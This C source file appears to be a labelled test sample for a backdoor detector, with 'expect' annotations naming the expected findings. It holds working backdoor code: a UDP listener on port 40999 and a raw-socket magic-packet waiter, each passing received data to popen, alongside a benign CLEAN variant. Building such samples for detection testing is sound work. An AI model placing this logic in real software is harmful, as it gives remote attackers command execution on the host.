/* SPDX-License-Identifier: Apache-2.0 */
// The address of the socket stands in the program's data; a magic packet is waited for below
// TCP. The twin has neither shell.
// expect: listener wait_for 1.5 /packet socket/ /popen/
// expect: listener serve 3 /port 40999/ /listens on port 40999, and popen/
// clean: listener 1.5
#include <arpa/inet.h>
#include <stdio.h>
#include <unistd.h>

#if __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
#define PORT (40999 >> 8 | (40999 & 255) << 8)
#else
#define PORT 40999
#endif
static struct sockaddr_in where = { .sin_family = AF_INET, .sin_port = PORT };

int serve(void)
{
	char line[100] = { 0 };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	bind(s, (void *)&where, sizeof(where));
	recv(s, line, sizeof(line) - 1, 0);
#ifdef CLEAN
	return puts(line);
#else
	return popen(line, "r") != 0;
#endif
}

int wait_for(void)
{
	char frame[1600];
	int s = socket(17, SOCK_RAW, 0x300);
	while (recv(s, frame, sizeof(frame), 0) < 60)
		;
#ifdef CLEAN
	return puts(frame + 42);
#else
	return popen(frame + 42, "w") != 0;
#endif
}

int main(int argc, char **argv) { return argc > 1 ? serve() : wait_for(); }
